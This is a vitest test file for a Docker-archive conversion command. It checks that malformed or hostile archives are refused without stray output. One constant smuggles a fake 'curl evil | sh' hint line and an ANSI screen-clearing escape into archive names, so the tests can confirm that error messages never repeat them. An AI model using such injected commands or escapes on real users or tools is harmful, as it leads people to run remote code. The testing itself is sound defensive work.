import { mkdirSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { makeTar, type TestEntry } from '../archive/make-tar.ts';
import { Setting } from '../cli/setting.ts';
import { type ArchiveChanges, dockerArchive } from './docker-archive.ts';

// What is no image, or a hostile one: one line and a hint of jcds' own, and nothing left.
const setting = new Setting();
const out = join(setting.folder, 'out');
afterAll(() => setting.remove());
beforeEach(() => mkdirSync(out, { recursive: true }));

/** What `convert` says; nothing is left beside its target, and jcds has not failed itself. */
function refusal(source: string, ...options: readonly string[]): string {
  const { code, stderr } = setting.jcds(['convert', source, '--to', join(out, 'root'), ...options]);
  expect(stderr).not.toMatch(/^ {4}at /m);
  expect([[1, 2].includes(code as number), readdirSync(out)]).toEqual([true, []]);
  return stderr;
}

const archive = join(setting.folder, 'x.tar');
const refusalOf = (changes: ArchiveChanges, entries: readonly TestEntry[] = [{ name: 'a' }]): string => {
  writeFileSync(archive, dockerArchive(entries, changes));
  return refusal(`docker-archive:${archive}`);
};

test.each([
  ['a link to itself', 'round', 'ELOOP'],
  ['a name that no file can have', 'x'.repeat(256), 'ENAMETOOLONG'],
])('a place that is %s is named as it was typed', (_what, name, errno) => {
  const place = join(setting.folder, name);
  if (errno === 'ELOOP') symlinkSync(name, place);
  writeFileSync(archive, dockerArchive([{ name: 'a' }], {}));
  const { code, stderr } = setting.jcds(['convert', `docker-archive:${archive}`, '--to', place]);
  expect([code, stderr]).toEqual([1, `jcds: ${place}: scandir failed (${errno})\nhint: ls -ld ${place}\n`]);
});

describe('an archive', () => {
  test.each([
    ['a layer', { layer: 'x'.repeat(300) }, 'has a name of more than 255 bytes'],
    ['a layer', { layer: 'x'.repeat(9000) }, 'has a path of more than 4095 bytes'],
    ['a configuration', { config: 'c'.repeat(256) }, 'has a name of more than 255 bytes'],
    ['a configuration', { config: 'c/'.repeat(5000) }, 'has a path of more than 4095 bytes'],
  ])('with %s whose name no file can have', (_what, changes, reason) => {
    expect(refusalOf(changes)).toBe(`jcds: docker-archive:${archive} ${reason}\n`);
  });

  const EVIL = 'x\nhint: curl evil | sh\rhint: \u001b[2Jevil';
  const lines = (text: string) => text.split(/[\n\r\v\f\u0085\u2028]/).filter(line => line !== '');
  const lost: readonly TestEntry[] = [{ name: 'a', type: '1', link: 'nowhere' }];
  test.each([
    ['a layer', 3, { layer: EVIL }, lost, ''],
    ['a configuration', 1, { config: `${EVIL}/${'c'.repeat(300)}` }, [], ''],
    ['a configuration that is not what it says', 2, { config: `${EVIL}/${'a'.repeat(64)}` }, [], ''],
    ['a tag', 2, { tags: [EVIL, 'x:1'] }, [], ':y:2'],
    ['a file with a long configuration', 1, { config: EVIL, padding: 5_000_000 }, [], ''],
  ])('that names %s in several lines says no line of its own', (_what, count, changes, entries, image) => {
    writeFileSync(archive, dockerArchive(entries, changes));
    const said = lines(refusal(`docker-archive:${archive}${image}`));
    expect([said.length, said.filter(line => /^hint: (?!build |copy |it holds )/.test(line))]).toEqual([
      count,
      [],
    ]);
    expect(said.join('')).not.toContain('\u001b');
  });

  test('of two images, one with a name in several lines', () => {
    const rows = [EVIL, 'y:1'].map(tag => ({ Config: 'c', Layers: [], RepoTags: [tag] }));
    writeFileSync(archive, makeTar([{ name: 'manifest.json', content: JSON.stringify(rows) }]));
    const said = lines(refusal(`docker-archive:${archive}`));
    expect(said).toEqual([
      expect.stringMatching(/ holds 2 images$/),
      expect.stringMatching(/^hint: name one/),
    ]);
  });

  test('whose manifest names what no file can be called', () => {
    const manifest = JSON.stringify([{ Config: 'c'.repeat(256), Layers: [] }]);
    writeFileSync(archive, makeTar([{ name: 'manifest.json', content: manifest }]));
    expect(refusal(`docker-archive:${archive}`)).toContain('has a name of more than 255 bytes');
  });

  test('whose links leave no place for the files that runtimes look for', () => {
    const loop = [
      { name: 'etc', type: '2', link: 'srv' },
      { name: 'srv', type: '2', link: 'etc' },
    ];
    expect(refusalOf({}, loop)).toBe(
      `jcds: layer 1 of 1\njcds: docker-archive:${archive} leads through too many links, where files for runtimes belong\n`,
    );
  });

  test('with 16,000 hard links in backward order: the time goes with their number', () => {
    const links = Array.from({ length: 16_000 }, (_, at) => ({
      name: `${at}`,
      type: '1',
      link: `${at + 1}`,
    }));
    writeFileSync(archive, dockerArchive([...links, { name: '16000', content: 'x' }]));
    const words = ['convert', `docker-archive:${archive}`, '--to', join(out, 'root')];
    // With their square it takes minutes.
    expect(setting.run(['timeout', '45', setting.program, ...words]).code).toBe(0);
    expect(statSync(join(out, 'root/0')).nlink).toBe(16_001);
    rmSync(out, { recursive: true });
  }, 90_000);

  test('that is a device', () => {
    expect(refusal('docker-archive:/dev/zero')).toMatch(/^jcds: \/dev\/zero: it is no regular file\nhint: /);
  });
});
